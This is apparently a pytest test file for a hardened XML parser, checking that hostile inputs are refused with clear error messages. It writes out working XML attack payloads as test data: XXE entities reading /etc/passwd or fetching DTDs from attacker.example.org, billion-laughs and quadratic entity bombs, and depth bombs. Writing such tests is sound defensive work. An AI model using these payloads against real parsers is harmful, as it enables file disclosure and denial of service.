"""safe_parse: hostile XML is refused with a message that names the problem.

Each refusal test checks the error type *and* the wording, because the message is what an
operator reads in the quarantine.
"""

from __future__ import annotations

from pathlib import Path

import pytest
from lxml import etree

from ticketbridge.codecs import xmlsafe
from ticketbridge.codecs.xmlsafe import safe_parse
from ticketbridge.errors import MalformedMessage, UnsafeXML

BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + "]>\n<lolz>&lol9;</lolz>\n"
)
QUADRATIC = (
    '<?xml version="1.0"?>\n<!DOCTYPE kaboom [<!ENTITY a "'
    + "x" * 20_000
    + '">]>\n<kaboom>'
    + "&a;" * 5_000
    + "</kaboom>"
)


def test_parses_a_plain_document_from_bytes() -> None:
    root = safe_parse(b"<Ticket><GHD_Status>new</GHD_Status></Ticket>")
    assert root.tag == "Ticket"
    assert root.findtext("GHD_Status") == "new"


def test_a_str_with_an_encoding_declaration_is_parsed_as_the_decoded_text() -> None:
    # lxml refuses str input with an encoding declaration; the declaration is stale here.
    text = '<?xml version="1.0" encoding="ISO-8859-1"?>\n<Ticket><a>Müller</a></Ticket>'
    assert safe_parse(text).findtext("a") == "Müller"


@pytest.mark.parametrize(
    ("data", "expected"),
    [
        ('<?xml version="1.0" encoding="ISO-8859-1"?><r>M\xfcller</r>'.encode("latin-1"), "Müller"),
        ('<?xml version="1.0" encoding="UTF-16"?><r>Müller</r>'.encode("utf-16"), "Müller"),
        ("<r>Müller</r>".encode(), "Müller"),
    ],
    ids=["latin-1 declared", "utf-16 with BOM", "utf-8 default"],
)
def test_bytes_are_decoded_by_their_declaration_or_bom(data: bytes, expected: str) -> None:
    assert safe_parse(data).text == expected


def test_predefined_entities_character_references_and_cdata_are_ordinary_text() -> None:
    root = safe_parse("<r>&lt;&amp;&gt;&quot;&apos; &#233;&#x20AC;<![CDATA[<!DOCTYPE x>]]></r>")
    assert root.text == "<&>\"' é€<!DOCTYPE x>"


@pytest.mark.parametrize(
    ("data", "words"),
    [
        pytest.param(
            '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
            "<r>&xxe;</r>",
            ("DOCTYPE", "external entity", "xxe"),
            id="xxe file entity",
        ),
        pytest.param(
            '<!DOCTYPE r [<!ENTITY xxe SYSTEM "http://attacker.example.org/x">]><r>&xxe;</r>',
            ("DOCTYPE", "external entity", "xxe"),
            id="xxe network entity",
        ),
        pytest.param(
            '<!DOCTYPE r [<!ENTITY % dtd SYSTEM "http://attacker.example.org/e.dtd"> %dtd;]><r/>',
            ("DOCTYPE", "external entity", "dtd"),
            id="xxe network parameter entity",
        ),
        pytest.param(
            '<!DOCTYPE r PUBLIC "-//X//DTD X//EN" "http://attacker.example.org/x.dtd"><r/>',
            ("DOCTYPE declaration is not allowed",),
            id="external DTD",
        ),
        pytest.param(
            BILLION_LAUGHS, ("DOCTYPE", "entity declarations", "lol"), id="billion laughs"
        ),
        pytest.param(
            QUADRATIC, ("DOCTYPE", "entity declarations", "declares entity a"), id="quadratic"
        ),
        pytest.param(
            "<!DOCTYPE Ticket>\n<Ticket/>",
            ("DOCTYPE declaration is not allowed",),
            id="doctype only",
        ),
        pytest.param(
            BILLION_LAUGHS.encode("utf-16"), ("DOCTYPE", "entity declarations"), id="utf-16 bomb"
        ),
        pytest.param("<r>&nbsp;</r>", ("entity reference", "nbsp"), id="undeclared entity"),
    ],
)
def test_dtds_and_entities_are_refused(data: str | bytes, words: tuple[str, ...]) -> None:
    with pytest.raises(UnsafeXML) as caught:
        safe_parse(data)
    for word in words:
        assert word in str(caught.value)


def test_refusal_does_not_rely_on_the_text_scan_alone(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """With the prolog scan disabled, the parser settings still neither read nor accept."""
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-VALUE")
    monkeypatch.setattr(xmlsafe, "_refuse_doctype", lambda text: None)
    doc = f'<!DOCTYPE r [<!ENTITY xxe SYSTEM "{secret.as_uri()}">]><r>&xxe;</r>'
    with pytest.raises(UnsafeXML) as caught:
        safe_parse(doc)
    assert "DOCTYPE" in str(caught.value)
    assert "TOP-SECRET-VALUE" not in str(caught.value)


def test_entity_nodes_are_never_expanded_by_the_parser_settings() -> None:
    parser = xmlsafe._parser()
    root = etree.fromstring(b'<!DOCTYPE r [<!ENTITY a "expanded">]><r>&a;</r>', parser)
    assert "expanded" not in "".join(str(t) for t in root.itertext())


@pytest.mark.parametrize("depth", [65, 300, 20_000], ids=["65", "300 (libxml2 limit)", "20000"])
def test_a_depth_bomb_is_refused(depth: int) -> None:
    with pytest.raises(UnsafeXML) as caught:
        safe_parse("<a>" * depth + "</a>" * depth)
    assert "nested" in str(caught.value)


def test_nesting_up_to_max_depth_is_accepted_and_the_limit_is_configurable() -> None:
    assert safe_parse("<a>" * 64 + "</a>" * 64).tag == "a"
    with pytest.raises(UnsafeXML, match="limit of 3"):
        safe_parse("<a><b><c><d/></c></b></a>", max_depth=3)


def test_oversize_input_is_refused_before_parsing() -> None:
    with pytest.raises(UnsafeXML) as caught:
        safe_parse(b"<r>" + b"x" * 1_000_000 + b"</r>")
    assert "1000007 bytes exceeds the limit of 1000000" in str(caught.value)


def test_a_str_is_measured_in_utf8_bytes() -> None:
    text = "<r>" + "é" * 600 + "</r>"  # 607 characters, 1207 bytes
    assert safe_parse(text, max_bytes=1207).tag == "r"
    with pytest.raises(UnsafeXML, match="1207 bytes exceeds the limit of 1206"):
        safe_parse(text, max_bytes=1206)


@pytest.mark.parametrize(
    ("data", "words"),
    [
        ("<Ticket><GHD_Status>new</GHD_Status>", ("malformed XML", "line 1, column", "Premature")),
        ("<a>\n<b></a>", ("malformed XML at line 2", "mismatch")),
        ("", ("malformed XML",)),
        ("<r>\x01</r>", ("malformed XML", "Char")),
    ],
    ids=["truncated", "tag mismatch", "empty", "control character"],
)
def test_malformed_xml_names_line_and_column(data: str, words: tuple[str, ...]) -> None:
    with pytest.raises(MalformedMessage) as caught:
        safe_parse(data)
    assert not isinstance(caught.value, UnsafeXML)
    for word in words:
        assert word in str(caught.value)


def test_a_lone_surrogate_in_a_str_is_malformed_not_a_crash() -> None:
    with pytest.raises(MalformedMessage, match="surrogates"):
        safe_parse("<r>\ud800</r>")
